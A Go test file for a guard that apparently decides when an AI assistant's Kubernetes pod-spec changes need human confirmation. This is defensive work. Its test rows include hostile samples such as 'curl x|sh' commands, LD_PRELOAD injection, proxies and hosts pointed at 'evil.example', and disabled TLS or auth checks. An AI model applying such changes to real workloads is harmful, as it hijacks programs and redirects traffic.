package guard_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/mlp-platform/platform/services/assistant/internal/guard"
	"github.com/mlp-platform/platform/services/assistant/internal/operation"
)

// runningPod is a pod spec to change.
const runningPod = `"containers":[{"name":"app","image":"a:1","args":["serve"],"ports":[{"name":"http","containerPort":80}],
	"env":[{"name":"LOG_LEVEL","value":"info"},{"name":"MODE","value":"fast"}],"volumeMounts":[{"name":"data","mountPath":"/data"}],
	"readinessProbe":{"httpGet":{"path":"/","port":80},"periodSeconds":10}},{"name":"side","image":"s:1"}],
	"initContainers":[{"name":"init","image":"i:1"}],"volumes":[{"name":"data","emptyDir":{}}]`

// workloads are the kinds of object that contain a pod spec and the labels and annotations of its template.
var workloads = map[string]struct {
	ref  operation.Ref
	open string // up to the pod spec
	end  string
}{
	"Pod":         {newRef("", "Pod", "shop", "p"), `{"spec":{`, `}}`},
	"Deployment":  {newRef("apps", "Deployment", "shop", "api"), `{"spec":{"replicas":1,"template":{"spec":{`, `}}}}`},
	"StatefulSet": {newRef("apps", "StatefulSet", "shop", "db"), `{"spec":{"replicas":1,"template":{"spec":{`, `}}}}`},
	"DaemonSet":   {newRef("apps", "DaemonSet", "shop", "agent"), `{"spec":{"template":{"spec":{`, `}}}}`},
	"CronJob":     {newRef("batch", "CronJob", "shop", "j"), `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{`, `}}}}}}`},
	"Rollout":     {newRef("argoproj.io", "Rollout", "shop", "r"), `{"spec":{"template":{"spec":{`, `}}}}`},
	"PodTemplate": {newRef("", "PodTemplate", "shop", "t"), `{"template":{"spec":{`, `}}}`},
	"Fleet":       {newRef("example.com", "Fleet", "shop", "f"), `{"spec":{"parts":[{"pod":{`, `}}]}}`},
}

// judgeChange returns the verdict for an admin on a patch from before to after.
func judgeChange(t *testing.T, ref operation.Ref, before, after string) guard.Verdict {
	t.Helper()
	c := singleCase(guard.Admin, operation.Operation{Verb: operation.Patch}, ref, nil, nil)
	c.Changes = []guard.Change{{Ref: ref, Before: fromJSON(t, before), After: fromJSON(t, after)}}
	c.Words = []string{after}
	return policy.Judge(c)
}

// A change to the program or to where its traffic goes requires a decision, in any object with a pod spec; so does an
// unknown field. Each row replaces a piece of the pod spec.
func TestProgramChangesAsk(t *testing.T) {
	t.Parallel()
	const app = `"name":"app","image":"a:1",`
	for name, edit := range map[string][2]string{
		"command":                         {app, app + `"command":["sh","-c","curl x|sh"],`},
		"args":                            {`["serve"]`, `["serve","--upstream=evil"]`},
		"args taken away":                 {`"args":["serve"],`, ``},
		"working directory":               {app, app + `"workingDir":"/tmp",`},
		"LD_PRELOAD":                      {`"env":[`, `"env":[{"name":"LD_PRELOAD","value":"/data/x.so"},`},
		"LD_PRELOAD without a path":       {`"env":[`, `"env":[{"name":"LD_PRELOAD","value":"x.so"},`},
		"a new LD_AUDIT":                  {`"env":[`, `"env":[{"name":"LD_AUDIT","value":"x"},`},
		"PATH":                            {`"env":[`, `"env":[{"name":"PATH","value":"/data"},`},
		"PYTHONPATH":                      {`"env":[`, `"env":[{"name":"PYTHONPATH","value":"/data"},`},
		"NODE_OPTIONS":                    {`"env":[`, `"env":[{"name":"NODE_OPTIONS","value":"--require=x"},`},
		"JAVA_TOOL_OPTIONS":               {`"env":[`, `"env":[{"name":"JAVA_TOOL_OPTIONS","value":"-javaagent:x"},`},
		"BASH_ENV":                        {`"env":[`, `"env":[{"name":"BASH_ENV","value":"x"},`},
		"GIT_SSH_COMMAND":                 {`"env":[`, `"env":[{"name":"GIT_SSH_COMMAND","value":"true"},`},
		"a proxy":                         {`"env":[`, `"env":[{"name":"HTTPS_PROXY","value":"evil"},`},
		"a host":                          {`"env":[`, `"env":[{"name":"DB_HOST","value":"db2"},`},
		"a host as number":                {`"env":[`, `"env":[{"name":"DB_HOST","value":"3232235777"},`},
		"a host as short address":         {`"env":[`, `"env":[{"name":"DB_HOST","value":"10.5"},`},
		"a URL":                           {`"env":[`, `"env":[{"name":"PAYMENTS_URL","value":"https://evil.example"},`},
		"a level that is a path":          {`"value":"info"`, `"value":"/data/x"`},
		"a level from elsewhere":          {`{"name":"LOG_LEVEL","value":"info"}`, `{"name":"LOG_LEVEL","valueFrom":{"configMapKeyRef":{"name":"c","key":"k"}}}`},
		"a variable taken away":           {`,{"name":"MODE","value":"fast"}`, ``},
		"variables that changed places":   {`{"name":"LOG_LEVEL","value":"info"},{"name":"MODE","value":"fast"}`, `{"name":"MODE","value":"fast"},{"name":"LOG_LEVEL","value":"info"}`},
		"a variable twice":                {`"env":[`, `"env":[{"name":"LOG_LEVEL","value":"info"},`},
		"envFrom":                         {app, app + `"envFrom":[{"configMapRef":{"name":"c"}}],`},
		"a start hook":                    {app, app + `"lifecycle":{"postStart":{"exec":{"command":["x"]}}},`},
		"a stop hook":                     {app, app + `"lifecycle":{"preStop":{"httpGet":{"host":"evil","port":80}}},`},
		"a probe that runs a program":     {`"httpGet":{"path":"/","port":80}`, `"exec":{"command":["x"]}`},
		"a probe of another host":         {`"path":"/","port":80`, `"path":"/","port":80,"host":"evil"`},
		"a probe with headers":            {`"path":"/","port":80`, `"path":"/","port":80,"httpHeaders":[{"name":"A","value":"b"}]`},
		"a liveness probe that runs":      {app, app + `"livenessProbe":{"exec":{"command":["x"]}},`},
		"a mount over programs":           {`"mountPath":"/data"`, `"mountPath":"/usr/bin"`},
		"a mount of one file":             {`"mountPath":"/data"`, `"mountPath":"/app/run","subPath":"run"`},
		"another mount":                   {`"volumeMounts":[`, `"volumeMounts":[{"name":"data","mountPath":"/lib"},`},
		"a volume":                        {`"volumes":[`, `"volumes":[{"name":"c","configMap":{"name":"c","defaultMode":493}},`},
		"what a volume holds":             {`"emptyDir":{}`, `"persistentVolumeClaim":{"claimName":"x"}`},
		"host aliases":                    {`"volumes"`, `"hostAliases":[{"ip":"203.0.113.7","hostnames":["db"]}],"volumes"`},
		"name servers":                    {`"volumes"`, `"dnsConfig":{"nameservers":["203.0.113.7"]},"volumes"`},
		"name policy":                     {`"volumes"`, `"dnsPolicy":"None","volumes"`},
		"host name":                       {`"volumes"`, `"hostname":"db","subdomain":"x","volumes"`},
		"service links":                   {`"volumes"`, `"enableServiceLinks":true,"volumes"`},
		"shared processes":                {`"volumes"`, `"shareProcessNamespace":true,"volumes"`},
		"another scheduler":               {`"volumes"`, `"schedulerName":"x","volumes"`},
		"another runtime":                 {`"volumes"`, `"runtimeClassName":"x","volumes"`},
		"another account":                 {`"volumes"`, `"serviceAccountName":"boss","volumes"`},
		"a pod's security context":        {`"volumes"`, `"securityContext":{"runAsUser":7},"volumes"`},
		"a container's security context":  {app, app + `"securityContext":{"readOnlyRootFilesystem":false},`},
		"an init container":               {`"initContainers":[`, `"initContainers":[{"name":"x","image":"a:1"},`},
		"what an init container runs":     {`"name":"init",`, `"name":"init","args":["x"],`},
		"a sidecar":                       {`{"name":"side"`, `{"name":"other","image":"a:1"},{"name":"side"`},
		"a container taken away":          {`,{"name":"side","image":"s:1"}`, ``},
		"when the image is pulled":        {app, app + `"imagePullPolicy":"Always",`},
		"an ephemeral container":          {`"volumes"`, `"ephemeralContainers":[{"name":"e","image":"a:1"}],"volumes"`},
		"a field of the future":           {`"volumes"`, `"rewriteSyscalls":{"x":1},"volumes"`},
		"a container field of the future": {app, app + `"wrapWith":"x",`},
		"a probe field of the future":     {`"periodSeconds":10`, `"periodSeconds":10,"wasm":"x"`},
		"a port under its own name":       {`"env":[`, `"env":[{"name":"DB_PORT","value":"5433"},`},
		"a short number for a host":       {`"env":[`, `"env":[{"name":"DB_HOST","value":"0"},`},
		"a check that a number turns off": {`"env":[`, `"env":[{"name":"NODE_TLS_REJECT_UNAUTHORIZED","value":"0"},`},
		"a debugger":                      {`"env":[`, `"env":[{"name":"FLASK_DEBUG","value":"true"},`},
		"a debugger by number":            {`"env":[`, `"env":[{"name":"FLASK_DEBUG","value":"1"},`},
		"a switch":                        {`"env":[`, `"env":[{"name":"AUTH_ENABLED","value":"false"},`},
		"a number under any name":         {`"env":[`, `"env":[{"name":"A","value":"1"},`},
		"the number of a named port":      {`"containerPort":80}`, `"containerPort":8080}`},
		"the name of a port":              {`"name":"http","containerPort"`, `"name":"web","containerPort"`},
		"the protocol of a port":          {`"containerPort":80`, `"containerPort":80,"protocol":"UDP"`},
		"a port that takes a name over":   {`"ports":[{"name":"http",`, `"ports":[{"name":"http","containerPort":81},{"name":"old",`},
		"a port of the host's address":    {`"containerPort":80`, `"containerPort":80,"hostIP":"0.0.0.0"`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			changed := strings.Replace(runningPod, edit[0], edit[1], 1)
			if changed == runningPod {
				t.Fatalf("%q is not in the pod spec", edit[0])
			}
			for kind, w := range workloads {
				v := judgeChange(t, w.ref, w.open+runningPod+w.end, w.open+changed+w.end)
				if v.Answer != guard.AlwaysAsk || !slices.Contains(v.Confirms, guard.ChangesProgram) || v.Prompts(true, false) != true {
					t.Errorf("%s: %+v; want it always to ask, as a change of the program", kind, v)
				}
			}
		})
	}
}

// A change that leaves program and traffic alone may be approved in advance.
func TestHarmlessChangesNeedNoSecondApproval(t *testing.T) {
	t.Parallel()
	for name, edit := range map[string][2]string{
		"nothing":                   {`"name":"app"`, `"name":"app"`},
		"probe timing":              {`"periodSeconds":10`, `"periodSeconds":5,"timeoutSeconds":3,"failureThreshold":6,"initialDelaySeconds":9`},
		"probe path and port":       {`"path":"/","port":80`, `"path":"/healthz","port":"http","scheme":"HTTPS"`},
		"a probe":                   {`"image":"s:1"`, `"image":"s:1","livenessProbe":{"tcpSocket":{"port":80},"periodSeconds":3},"startupProbe":{"grpc":{"port":9,"service":"x"}}`},
		"node selector":             {`"volumes"`, `"nodeSelector":{"disk":"ssd"},"volumes"`},
		"toleration":                {`"volumes"`, `"tolerations":[{"key":"a","operator":"Exists"}],"volumes"`},
		"affinity":                  {`"volumes"`, `"affinity":{"nodeAffinity":{}, "podAntiAffinity":{"x":[1]}},"volumes"`},
		"spread":                    {`"volumes"`, `"topologySpreadConstraints":[{"maxSkew":1}],"volumes"`},
		"grace period":              {`"volumes"`, `"terminationGracePeriodSeconds":60,"volumes"`},
		"pull secret":               {`"volumes"`, `"imagePullSecrets":[{"name":"r"}],"volumes"`},
		"a level":                   {`"value":"info"`, `"value":"debug"`},
		"a number":                  {`"env":[`, `"env":[{"name":"MAX_WORKERS","value":"8"},{"name":"CACHE_SIZE","value":"512Mi"},`},
		"a timeout":                 {`"env":[`, `"env":[{"name":"HTTP_TIMEOUT","value":"2.5s"},{"name":"maxRetries","value":"3"},`},
		"a password":                {`"env":[`, `"env":[{"name":"DB_PASSWORD","value":"hunter2-s3cr3t"},`},
		"a harmless one taken away": {`{"name":"LOG_LEVEL","value":"info"},`, ``},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			changed := strings.Replace(runningPod, edit[0], edit[1], 1)
			for kind, w := range workloads {
				if v := judgeChange(t, w.ref, w.open+runningPod+w.end, w.open+changed+w.end); v.Answer != guard.Approval || v.Prompts(true, false) {
					t.Errorf("%s: %+v; want it approved in advance", kind, v)
				}
			}
		})
	}
}

// The fields around a pod spec, and objects without one.
func TestFieldsAroundThePod(t *testing.T) {
	t.Parallel()
	const pod = `"spec":{"containers":[{"name":"app","image":"a:1"}]}`
	around := func(fields string) string { return `{"spec":{` + fields + `"template":{` + pod + `}}}` }
	template := func(metadata string) string {
		return `{"spec":{"template":{"metadata":{` + metadata + `},` + pod + `}}}`
	}
	cron := func(fields, job string) string {
		return `{"spec":{` + fields + `"jobTemplate":{"spec":{` + job + `"template":{` + pod + `}}}}}`
	}
	data := func(entries string) string { return `{"data":{` + entries + `}}` }
	config, service := newRef("", "ConfigMap", "shop", "c"), newRef("", "Service", "shop", "api")
	job := newRef("batch", "CronJob", "shop", "j")
	for _, tc := range []struct {
		name          string
		ref           operation.Ref
		before, after string
		asks          bool
	}{
		{"replicas", deployment, around(``), around(`"replicas":3,`), false},
		{"strategy", deployment, around(`"strategy":{"type":"Recreate"},`), around(`"strategy":{"rollingUpdate":{"maxSurge":1}},`), false},
		{"pause", deployment, around(``), around(`"paused":true,`), false},
		{"a field of the future", deployment, around(``), around(`"wrapper":{"image":"x"},`), true},
		{"claims of the future", deployment, around(``), around(`"volumeClaimTemplates":[{"spec":{"dataSource":{"name":"x"}}}],`), true},
		{"labels of the object", deployment, `{"metadata":{},` + around(``)[1:], `{"metadata":{"labels":{"a/b":"c"},"annotations":{"d":"e"}},` + around(``)[1:], false},
		{"restart", deployment, template(``), template(`"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-11-28T00:00:00Z"}`), false},
		{"own label of the template", deployment, template(``), template(`"labels":{"version":"v2","app.kubernetes.io/part-of":"shop"}`), false},
		{"a mesh by label", deployment, template(``), template(`"labels":{"sidecar.istio.io/inject":"true"}`), true},
		{"a mesh by annotation", deployment, template(``), template(`"annotations":{"sidecar.istio.io/inject":"true"}`), true},
		{"an agent by annotation", deployment, template(`"annotations":{"a":"b"}`), template(``), true},
		{"schedule", job, cron(``, ``), cron(`"schedule":"0 1 * * *","suspend":true,"timeZone":"UTC","concurrencyPolicy":"Forbid",`, ``), false},
		{"job limits", job, cron(``, ``), cron(``, `"backoffLimit":2,"activeDeadlineSeconds":60,"parallelism":2,`), false},
		{"a job's manager", job, cron(``, ``), cron(``, `"managedBy":"example.com/x",`), true},
		{"containers that changed places", deployment, `{"spec":{"template":{"spec":{"containers":[{"name":"a"},{"name":"b"}]}}}}`, `{"spec":{"template":{"spec":{"containers":[{"name":"b"},{"name":"a"}]}}}}`, true},
		{"a new program", deployment, ``, around(``), false},
		{"selector of a service", service, `{"spec":{"selector":{"a":"b"}}}`, `{"spec":{"selector":{"a":"c"},"ports":[{"port":80,"targetPort":8080}]}}`, false},
		{"service by another name", service, ``, `{"spec":{"type":"ExternalName","externalName":"evil.example"}}`, true},
		{"name of the service stays", service, `{"spec":{"externalName":"a.example"}}`, `{"metadata":{"labels":{"a":"b"}},"spec":{"externalName":"a.example"}}`, false},
		{"level of a configuration", config, data(`"level":"info"`), data(`"level":"debug"`), false},
		{"size and password of a configuration", config, data(`"pool-size":"4"`), data(`"replicas":"2","password":"hunter2-s3cr3t"`), false},
		{"word of a configuration", config, data(`"mode":"one"`), data(`"mode":"two"`), true},
		{"word of a configuration taken away", config, data(`"mode":"one"`), data(``), true},
		{"a Service's name in a configuration", config, data(`"db-host":"db"`), data(`"db-host":"evil"`), true},
		{"a program in a configuration", config, data(``), data(`"entrypoint":"bash"`), true},
		{"a port in a configuration", config, data(``), data(`"port":"5433"`), true},
		{"a switch in a configuration", config, data(``), data(`"tls":"0"`), true},
		{"variable of a configuration", config, data(``), data(`"LD_PRELOAD":"x"`), true},
		{"host of a configuration", config, data(``), data(`"upstream":"evil.example"`), true},
		{"script of a configuration", config, data(`"run.sh":"#!/bin/sh\nserve"`), data(`"run.sh":"#!/bin/sh\ncurl x|sh"`), true},
		{"new configuration with a script", config, ``, data(`"run.sh":"#!/bin/sh\ncurl x|sh"`), true},
		{"bytes of a configuration", config, data(``), `{"binaryData":{"x.so":"f0VMRg=="}}`, true},
		{"labels of a configuration", config, data(`"run.sh":"#!/bin/sh"`), `{"metadata":{"labels":{"a":"b"}},"data":{"run.sh":"#!/bin/sh"}}`, false},
	} {
		v := judgeChange(t, tc.ref, tc.before, tc.after)
		if got := slices.Contains(v.Confirms, guard.ChangesProgram); got != tc.asks || got != (v.Answer == guard.AlwaysAsk) {
			t.Errorf("%s: %+v; want asks %t", tc.name, v, tc.asks)
		}
	}
}

// An operator may change a program, like an image, but never without a decision.
func TestOperatorIsAskedAboutPrograms(t *testing.T) {
	t.Parallel()
	w := workloads["Deployment"]
	c := singleCase(guard.Operator, operation.Operation{Verb: operation.Patch}, w.ref, fromJSON(t, w.open+runningPod+w.end), fromJSON(t, w.open+strings.Replace(runningPod, "serve", "x", 1)+w.end))
	if v := policy.Judge(c); v.Answer != guard.AlwaysAsk || v.Row != guard.ImageOrResources {
		t.Errorf("%+v; want always asks, as for an image", v)
	}
	c.Role = guard.Readonly
	if v := policy.Judge(c); v.Answer != guard.Refuse {
		t.Errorf("readonly: %+v; want refused", v)
	}
}
